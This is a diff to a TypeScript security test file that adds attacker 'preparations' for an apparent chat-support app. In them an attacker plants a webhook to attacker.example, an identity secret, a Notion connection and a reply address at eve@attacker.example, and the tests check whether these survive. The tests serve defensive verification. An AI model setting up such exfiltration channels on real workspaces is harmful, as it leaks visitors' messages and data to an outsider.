@@ -10,6 +10,7 @@ import { addPasskey, workspaceIdOf } from '#tests/account-cases.ts';
 import {
   addApiKey,
   type Client,
+  createAgent,
   createClient,
   expectStatus,
   newEmail,
@@ -59,6 +60,14 @@ async function memberOf(inviter: Client): Promise<Person> {
   const token = tokenIn(await newestEmail(email, '/invitations?token='));
   await expectStatus(await member.post('/api/invitations/accept', { token }), 200);
   return member;
+}
+
+async function rowsOf(table: string, workspaceId: string, where = ''): Promise<number> {
+  const { rows } = await stage.services.pool.query<{ count: number }>(
+    `select count(*)::int as count from ${table} where workspace_id = $1 ${where}`,
+    [workspaceId],
+  );
+  return rows[0]?.count ?? 0;
 }
 
 /**
@@ -128,6 +137,36 @@ const preparations: Record<string, (attacker: Person) => Promise<() => Promise<b
     const accomplice = await memberOf(attacker);
     await expectStatus(await attacker.patch(`/api/v1/members/${accomplice.user.id}`, { role: 'owner' }), 200);
     return async () => (await workspaceIdOf(accomplice)) === workspaceId;
+  },
+  'a webhook, which sends what visitors write': async (attacker) => {
+    const body = { url: 'https://attacker.example/hook', events: ['lead.created'] };
+    await expectStatus(await attacker.post('/api/v1/webhooks', body), 201);
+    const workspaceId = await workspaceIdOf(attacker);
+    return async () => (await rowsOf('webhook', workspaceId)) > 0;
+  },
+  'an identity secret, which lets in as any visitor': async (attacker) => {
+    const { id } = await createAgent(attacker);
+    await expectStatus(await attacker.post(`/api/v1/agents/${id}/identity-secrets`), 201);
+    const workspaceId = await workspaceIdOf(attacker);
+    return async () => (await rowsOf('identity_secret', workspaceId)) > 0;
+  },
+  'their Notion, and their address for what visitors answer by email': async (attacker) => {
+    const workspaceId = await workspaceIdOf(attacker);
+    await stage.services.pool.query(
+      `insert into notion_connection (workspace_id, method, access_token, token_end, workspace_name)
+       values ($1, 'token', 'sealed', 'oken', 'Theirs')`,
+      [workspaceId],
+    );
+    const settings = {
+      handBackMinutes: 60,
+      hours: null,
+      reminders: 'never',
+      replyAddress: 'eve@attacker.example',
+    };
+    await expectStatus(await attacker.put('/api/v1/inbox/settings', settings), 200);
+    return async () =>
+      (await rowsOf('notion_connection', workspaceId)) > 0 ||
+      (await rowsOf('inbox_settings', workspaceId, 'and reply_address is not null')) > 0;
   },
   'an open invitation': async (attacker) => {
     const accomplice = await signUp(stage.app);
